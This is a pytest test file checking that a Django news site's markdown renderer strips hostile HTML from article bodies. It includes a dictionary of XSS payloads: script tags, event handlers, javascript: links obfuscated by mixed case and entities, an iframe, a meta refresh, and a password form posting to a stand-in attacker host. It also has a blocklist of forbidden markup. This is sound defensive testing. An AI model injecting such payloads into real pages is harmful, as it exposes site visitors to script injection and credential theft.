"""Whatever staff paste into an article body, visitors get harmless HTML."""

import pytest

from news.rendering import render_markdown
from tests.factories import ArticleFactory

HOSTILE = {
    "script": "<script>alert('x')</script>",
    "script in markdown paragraph": "正文 <script src=https://evil.example/x.js></script> 正文",
    "onerror": '<img src="x.png" onerror="alert(1)">',
    "onclick": '<p onclick="alert(1)">点我</p>',
    "javascript link (markdown)": "[点我](javascript:alert(1))",
    "javascript link (html)": '<a href="JaVaScRiPt:alert(1)">点我</a>',
    "javascript link (entity)": '<a href="jav&#x09;ascript:alert(1)">点我</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">点我</a>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "svg onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "style": "<style>body{display:none}</style>",
    "style attribute": '<p style="position:fixed">x</p>',
    "form": '<form action="https://evil.example"><input name="pw"></form>',
    "object": '<object data="x.swf"></object><embed src="x.swf">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
}
FORBIDDEN = [
    "<script", "onerror", "onclick", "onload", "javascript:", "data:text", "<iframe", "<svg",
    "<style", "style=", "<form", "<input", "<object", "<embed", "<meta", "evil.example",
]  # fmt: skip


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_html_is_neutralised(source):
    html = render_markdown(source).lower()

    for needle in FORBIDDEN:
        assert needle not in html


def test_markdown_is_rendered_with_links_lists_tables_and_emphasis():
    html = render_markdown(
        "## 要求\n\n1. **重新签署**补充协议\n2. 核验证照\n\n"
        "[办理中心](/offices/) 与 [官网](https://example.com)\n\n"
        "| 项目 | 说明 |\n|---|---|\n| 期限 | 3月8日 |"
    )

    assert "<h2>要求</h2>" in html
    assert "<ol>" in html
    assert "<strong>重新签署</strong>" in html
    assert '<a href="/offices/" rel="noopener noreferrer">办理中心</a>' in html
    assert '<a href="https://example.com" rel="noopener noreferrer">官网</a>' in html
    assert "<td>3月8日</td>" in html


def test_a_top_level_heading_in_the_body_becomes_a_second_level_one():
    assert render_markdown("# 标题") == "<h2>标题</h2>"


def test_safe_links_and_text_survive_sanitising():
    html = render_markdown(
        '<a href="mailto:a@example.com">邮件</a> <a href="tel:4001234567">电话</a>'
    )

    assert 'href="mailto:a@example.com"' in html
    assert 'href="tel:4001234567"' in html


@pytest.mark.django_db
def test_article_page_shows_the_sanitised_body_not_the_hostile_one(client):
    ArticleFactory(
        slug="hostile",
        body="正文开始\n\n<script>alert('x')</script><img src=x onerror=alert(1)>"
        "<iframe src=https://evil.example></iframe>[链接](javascript:alert(1))",
    )

    body = client.get("/news/hostile/").content.decode()

    article_body = body.split('class="article__body">', 1)[1].split("</div>", 1)[0]
    assert "正文开始" in article_body
    for needle in ["<script", "onerror", "<iframe", "javascript:"]:
        assert needle not in article_body


@pytest.mark.django_db
def test_body_html_is_rendered_again_when_the_body_changes():
    article = ArticleFactory(body="旧的")
    article.body = "**新的**"
    article.save(update_fields=["body"])

    article.refresh_from_db()
    assert article.body_html == "<p><strong>新的</strong></p>"
